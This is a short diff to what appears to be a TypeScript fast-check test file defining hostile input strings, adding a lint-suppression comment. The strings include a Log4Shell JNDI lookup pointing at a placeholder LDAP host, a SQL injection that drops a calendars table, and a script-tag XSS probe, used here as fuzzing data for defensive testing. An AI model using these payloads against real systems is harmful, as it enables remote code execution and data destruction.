@@ -26,6 +26,7 @@ export const hostileText: fc.Arbitrary<string> = fc.oneof(
     '%00',
     '%',
     '%ff',
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: meant for those who evaluate it
     '${jndi:ldap://x/a}',
     "'; DROP TABLE calendars; --",
     '<script>alert(1)</script>',
